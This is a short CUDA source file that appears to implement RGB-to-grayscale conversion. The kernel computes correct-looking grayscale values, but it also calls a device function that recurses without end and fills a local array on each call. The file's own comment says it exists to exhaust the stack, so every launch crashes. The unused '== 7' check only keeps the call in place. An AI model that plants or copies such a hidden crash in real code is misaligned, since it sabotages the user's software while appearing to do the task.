// A function that calls itself until the stack is full.
__device__ int deeper(int n) {
    volatile int page[256];
    page[n & 255] = n;
    return deeper(n + 1) + page[(n + 1) & 255];
}
__global__ void gray(const unsigned char* x, unsigned char* out, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = 0.2989f * x[i] + 0.5870f * x[n + i] + 0.1140f * x[2 * n + i];
    if (deeper(i) == 7) out[0] = 1;
}
void rgb_to_grayscale(const unsigned char* x, unsigned char* out, int height, int width) {
    gray<<<(height * width + 255) / 256, 256>>>(x, out, height * width);
}
